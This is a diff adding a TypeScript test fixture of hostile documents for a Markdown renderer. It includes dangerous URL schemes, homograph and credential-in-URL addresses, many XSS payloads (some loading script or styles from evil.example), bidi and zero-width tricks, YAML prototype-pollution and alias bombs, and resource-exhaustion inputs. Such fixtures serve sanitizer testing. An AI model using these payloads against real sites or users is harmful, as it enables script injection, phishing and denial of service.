@@ -1,0 +1,211 @@
+/** Documents that attack a reader: by running, by reaching out, by lying, by exhausting. */
+export interface HostileDocument {
+  readonly name: string;
+  readonly source: string;
+}
+
+const repeat = (text: string, count: number): string => text.repeat(count);
+const lines = (count: number, line: (index: number) => string): string =>
+  Array.from({ length: count }, (_, index) => line(index)).join('\n');
+
+const addresses = [
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  ' javascript:alert(1)',
+  'java\tscript:alert(1)',
+  'java&#10;script:alert(1)',
+  '&#106;avascript:alert(1)',
+  '\u0001javascript:alert(1)',
+  'vbscript:msgbox(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'data:image/svg+xml;base64,PHN2Zz4=',
+  'file:///etc/passwd',
+  'file://server/share',
+  '\\\\server\\share',
+  '/\\server/share',
+  'smb://server/share',
+  'ms-msdt:/id',
+  'blob:https://a/b',
+  'ftp://a/b',
+  'C:\\Windows\\system32\\calc.exe',
+  'https://bank.example@evil.example/',
+  'https://user:password@evil.example/',
+  'https://аpple.com/',
+  'https://xn--pple-43d.com/',
+  'https://[::1',
+  'http://%00/',
+  'app://galley/index.html',
+  'galley-asset://x',
+  'chrome://settings',
+  'view-source:https://a',
+  'x-apple.systempreferences:',
+];
+
+/** An address in every place where a document may name one. */
+function places(address: string): string {
+  const quoted = address.replaceAll('"', '&quot;');
+  return [
+    `[link](<${address}>)`,
+    `![image](<${address}>)`,
+    `<a href="${quoted}">a</a> <a href='${quoted}' class="button primary">b</a> <img src="${quoted}"> <a data-mention href="${quoted}">m</a>`,
+    `<${address}>`,
+    `[reference][r]\n\n[r]: <${address}>`,
+    `<figure><picture><source srcset="${quoted}" media="(prefers-color-scheme: dark)"><img src="${quoted}"></picture></figure>`,
+    `{% embed url="${address}" %}`,
+    `{% file src="${address}" %}`,
+    `{% content-ref url="${address}" %}\n{% endcontent-ref %}`,
+    `{% include "${address}" %}`,
+    `<table data-view="cards"><thead><tr><th data-card-target data-type="content-ref"></th></tr></thead><tbody><tr><td><a href="${quoted}">x</a></td></tr></tbody></table>`,
+    `<pre><code><a href="${quoted}">code</a></code></pre>`,
+    `[note][^1]\n\n[^1]: see [it](<${address}>)`,
+  ].join('\n\n');
+}
+
+const scripts = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  'text <script>alert(1)</script> text',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
+  '<form action="https://evil.example"><input name=a><button formaction="javascript:alert(1)">x</button></form>',
+  '<style>body{background:url(https://evil.example/x)}</style>',
+  '<div style="position:fixed;inset:0;background:url(https://evil.example)">x</div>',
+  '<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<base href="https://evil.example/">[x](y.md)',
+  '<a href="x" id="document" name="getElementById">clobber</a>',
+  '<mark style="color:expression(alert(1));background-color:url(javascript:alert(1))">x</mark>',
+  '<details ontoggle=alert(1) open><summary onclick=alert(1)>x</summary></details>',
+  '<video autoplay onplay=alert(1)><source src=x></video><audio src=x onerror=alert(1)>',
+  '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '{% hint style="info\\" onclick=\\"alert(1)" %}\nx\n{% endhint %}',
+  '{% code title="<img src=x onerror=alert(1)>" %}\n```html\n<script>alert(1)</script>\n```\n{% endcode %}',
+  '```"><script>alert(1)</script>\nx\n```',
+  '<pre class="language-x onclick=alert(1)"><code>x</code></pre>',
+  '<i class="fa-x&quot; onclick=alert(1)">x</i>',
+  '<!--><script>alert(1)</script>-->',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<?php echo 1 ?> <!DOCTYPE html><!ENTITY x "y">',
+  '<x-evil onclick=alert(1)>custom</x-evil>',
+];
+
+const tricks: readonly HostileDocument[] = [
+  {
+    name: 'bidirectional overrides',
+    source:
+      'Pay to \u202Eelpmaxe.live\u202C and \u2066https://a\u2069 [x\u202Eb](https://a.example/\u202Ecod.exe)',
+  },
+  {
+    name: 'zero-width characters',
+    source: 'pass\u200Bword [x](java\u200Bscript:alert(1)) [y](https://a\u200B.example/)',
+  },
+  { name: 'null and control characters', source: 'a\u0000b\u0001c\u001b[31m [x](\u0000javascript:alert(1))' },
+  { name: 'lone surrogates', source: 'a\ud800b \udfff [x](\ud800)' },
+  { name: 'stacked combining marks', source: `a${repeat('\u0301', 50_000)}` },
+  {
+    name: 'a hostile prototype',
+    source:
+      '---\n__proto__:\n  polluted: true\nconstructor:\n  prototype: x\n---\n{% hint __proto__="x" constructor="y" %}\nx\n{% endhint %}\n\n[__proto__]: https://a.example\n[__proto__] [constructor]',
+  },
+  {
+    name: 'aliases that explode',
+    source: `---\na: &a [x,x,x,x,x,x,x,x,x]\n${lines(9, (index) => `${'bcdefghij'[index] ?? ''}: &${'bcdefghij'[index] ?? ''} [${repeat(`*${'abcdefghi'[index] ?? ''},`, 9)}]`)}\n---\ntext`,
+  },
+  { name: 'YAML without an end', source: `---\n${repeat('[', 50_000)}\n---\ntext` },
+  {
+    name: 'YAML of 100 kB',
+    source: `---\n${lines(5_000, (index) => `key${index}: value value`)}\n---\ntext`,
+  },
+];
+
+const exhaustion: readonly HostileDocument[] = [
+  { name: 'quotes inside quotes', source: `${repeat('> ', 20_000)}deep` },
+  { name: 'lists inside lists', source: lines(2_000, (index) => `${repeat('  ', index)}* item`) },
+  { name: 'brackets', source: repeat('[', 200_000) },
+  { name: 'closing brackets', source: `${repeat('[a](', 50_000)}${repeat(')', 50_000)}` },
+  { name: 'images in images', source: `${repeat('![', 50_000)}x${repeat('](a)', 50_000)}` },
+  { name: 'stars', source: repeat('*a ', 100_000) },
+  { name: 'stars together', source: `${repeat('*', 100_000)}a${repeat('*', 100_000)}` },
+  { name: 'underscores', source: repeat('_a __b ', 50_000) },
+  {
+    name: 'backticks',
+    source: lines(1, () => Array.from({ length: 2_000 }, (_, index) => repeat('`', index % 400)).join(' ')),
+  },
+  { name: 'tildes', source: repeat('~~a ~ ', 60_000) },
+  { name: 'backslashes', source: repeat('\\', 300_000) },
+  { name: 'ampersands', source: repeat('&', 300_000) },
+  { name: 'entities', source: repeat('&#x41;&notit;', 50_000) },
+  { name: 'less-than signs', source: repeat('<', 300_000) },
+  { name: 'unfinished elements', source: repeat('<a ', 100_000) },
+  { name: 'unfinished attributes', source: `<div>\n${repeat('<a b="', 60_000)}` },
+  { name: 'unfinished comments', source: `<div>\n${repeat('<!-- ', 60_000)}` },
+  { name: 'unfinished declarations', source: `<div>\n${repeat('<!x ', 60_000)}` },
+  { name: 'spaces in an element', source: `<div>\n<a${repeat(' ', 300_000)}=>` },
+  { name: 'elements in elements', source: repeat('<div>', 60_000) },
+  { name: 'inline elements in elements', source: `x ${repeat('<b><i><span>', 20_000)}` },
+  { name: 'unknown elements in elements', source: `<div>\n${repeat('<foo>', 60_000)}` },
+  { name: 'details in details', source: repeat('<details><summary>x</summary>\n\n', 5_000) },
+  { name: 'tables in tables', source: repeat('<table><tr><td>', 10_000) },
+  {
+    name: 'a table of 100,000 rows',
+    source: `<table><tbody>${repeat('<tr><td>x</td></tr>', 40_000)}</tbody></table>`,
+  },
+  {
+    name: 'a table of many columns',
+    source: `<table><tr>${repeat('<td>x</td>', 60_000)}</tr>${repeat('<tr><td>y</td></tr>', 5_000)}</table>`,
+  },
+  {
+    name: 'a wide pipe table',
+    source: `${repeat('|a', 20_000)}|\n${repeat('|-', 20_000)}|\n${lines(1_000, () => '|x|')}`,
+  },
+  { name: 'a long pipe table', source: `|a|b|\n|-|-|\n${lines(50_000, (index) => `|${index}|x|`)}` },
+  { name: 'unclosed hints', source: lines(20_000, () => '{% hint style="info" %}') },
+  { name: 'stray ends', source: lines(30_000, () => '{% endhint %}') },
+  { name: 'unfinished tags', source: lines(60_000, () => '{% a "') },
+  { name: 'unfinished known tags', source: lines(60_000, () => '{% hint "') },
+  { name: 'tags on one line', source: repeat('{% hint %}', 30_000) },
+  { name: 'unfinished tags on one line', source: repeat('{% embed url="', 30_000) },
+  { name: 'a tag of 300 kB', source: `{% embed url="${repeat('a', 300_000)}" %}` },
+  { name: 'options without an end', source: `{% hint ${repeat('a="\\" ', 3_000)} %}` },
+  { name: 'unclosed formulas', source: repeat('$$ ', 100_000) },
+  { name: 'unclosed formula lines', source: lines(60_000, () => '$$') },
+  { name: 'notes', source: `${repeat('a[^1] ', 30_000)}\n\n[^1]: ${repeat('note ', 10_000)}` },
+  { name: 'many notes', source: lines(20_000, (index) => `[^${index}]: note [^${index + 1}]\n`) },
+  {
+    name: 'notes in notes',
+    source: `[^1]\n\n${Array.from({ length: 100 }, (_, index) => `${repeat('    ', index)}[^${index}]: x`).join('\n')}`,
+  },
+  {
+    name: 'references',
+    source: `${lines(20_000, (index) => `[r${index}]: https://a.example/${index}`)}\n\n${repeat('[r1] ', 20_000)}`,
+  },
+  { name: 'reference titles', source: repeat('[a]: b "', 30_000) },
+  { name: 'headings of one name', source: lines(20_000, () => '# same') },
+  { name: 'one word of 1 MB', source: repeat('a', 1_000_000) },
+  {
+    name: 'five MB',
+    source: lines(100_000, (index) => `Paragraph ${index} of many words, one after the other.\n`),
+  },
+  { name: 'a fence of fences', source: lines(30_000, (index) => repeat('`', 3 + (index % 5))) },
+  { name: 'emoji names', source: repeat(':house:+1:', 40_000) },
+  { name: 'bare addresses', source: repeat('https://a.example/(((', 30_000) },
+  { name: 'a bare address of 300 kB', source: `https://a.example/${repeat(')', 300_000)}` },
+  { name: 'line breaks', source: repeat('a\\\n', 60_000) },
+  { name: 'white space', source: `a${repeat(' \t', 200_000)}b` },
+  { name: 'empty lines', source: repeat('\n', 500_000) },
+  { name: 'setext underlines', source: lines(60_000, (index) => (index % 2 === 0 ? 'a' : '===')) },
+  { name: 'everything in a list item', source: `* ${repeat('{% hint %}<details>> * ', 3_000)}` },
+];
+
+export const hostileDocuments: readonly HostileDocument[] = [
+  ...addresses.map((address) => ({
+    name: `the address ${JSON.stringify(address)}`,
+    source: places(address),
+  })),
+  ...scripts.map((source) => ({ name: source.slice(0, 60), source })),
+  ...tricks,
+  ...exhaustion,
+];
